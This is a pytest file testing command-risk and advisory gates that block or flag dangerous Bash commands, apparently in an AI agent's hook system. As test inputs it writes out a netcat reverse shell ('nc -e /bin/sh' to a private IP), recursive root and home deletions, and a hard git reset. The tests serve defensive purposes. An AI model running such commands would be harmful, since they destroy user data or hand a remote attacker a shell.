#!/usr/bin/env python3
"""Unit tests for the security gates (command_risk, command_advisories)."""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent.parent / "hooks"))

import pytest

import gates._security as security
from _config import get_tool_name
from gates import HOOKS
from gates._security import check_command_advisories, check_command_risk


@pytest.fixture
def audit_calls(monkeypatch):
    """Capture audit writes instead of touching disk."""
    calls = []

    def fake_log(event_type, category, pattern, command, session_id):
        calls.append(
            {
                "type": event_type,
                "category": category,
                "pattern": pattern,
                "command": command,
                "session_id": session_id,
            }
        )

    monkeypatch.setattr(security, "log_security_event", fake_log)
    return calls


def _bash(command, session_id="sess-42"):
    return {"tool_name": "Bash", "tool_input": {"command": command}, "session_id": session_id}


class TestRegistration:
    """Both gates register against Bash."""

    def test_registered_with_priorities(self):
        registered = {name: (matcher, priority) for name, matcher, _, priority in HOOKS}

        assert registered["command_risk"] == ("Bash", 5)
        assert registered["command_advisories"] == ("Bash", 50)

    def test_matcher_comes_from_tool_name_table(self):
        assert security.BASH == get_tool_name("bash") == "Bash"


class TestCommandRiskGate:
    """Block and confirm tiers."""

    def test_blocked_command_is_denied_and_audited(self, audit_calls):
        result = check_command_risk(_bash("rm -rf /"))

        assert result.is_deny
        assert not result.needs_confirmation
        assert "BLOCKED" in result.reason
        assert audit_calls == [
            {
                "type": "blocked",
                "category": "catastrophic_deletion",
                "pattern": audit_calls[0]["pattern"],
                "command": "rm -rf /",
                "session_id": "sess-42",
            }
        ]

    def test_dangerous_git_needs_confirmation(self, audit_calls):
        result = check_command_risk(_bash("git reset --hard origin/main"))

        assert result.is_deny
        assert result.needs_confirmation
        assert "CONFIRMATION REQUIRED" in result.reason
        assert audit_calls[0]["type"] == "confirmation_required"
        assert audit_calls[0]["category"] == "dangerous_git"

    def test_clean_command_is_approved_without_audit(self, audit_calls):
        result = check_command_risk(_bash("ls -la"))

        assert not result.is_deny
        assert audit_calls == []

    def test_audit_failure_does_not_change_decision(self, monkeypatch):
        def broken_log(*args, **kwargs):
            raise RuntimeError("disk on fire")

        monkeypatch.setattr(security, "log_security_event", broken_log)

        result = check_command_risk(_bash("nc -e /bin/sh 10.0.0.1 4444"))

        assert result.is_deny

    @pytest.mark.parametrize("data", [{}, {"tool_input": None}, {"tool_input": {"command": ""}}])
    def test_missing_command_fails_open(self, data, audit_calls):
        assert not check_command_risk(data).is_deny
        assert audit_calls == []

    def test_string_tool_input(self, audit_calls):
        result = check_command_risk({"tool_name": "Bash", "tool_input": '{"command": "rm -rf ~"}'})

        assert result.is_deny
        assert audit_calls[0]["session_id"] == ""


class TestCommandAdvisoriesGate:
    """Warn tier rides along as context."""

    def test_advisories_attached(self):
        result = check_command_advisories(_bash("rm -rf ./build"))

        assert not result.is_deny
        assert result.context.startswith("💡 Command advisories:")
        assert "Recursive delete" in result.context

    def test_no_advisories_for_clean_command(self):
        assert check_command_advisories(_bash("ls -la")).context == ""
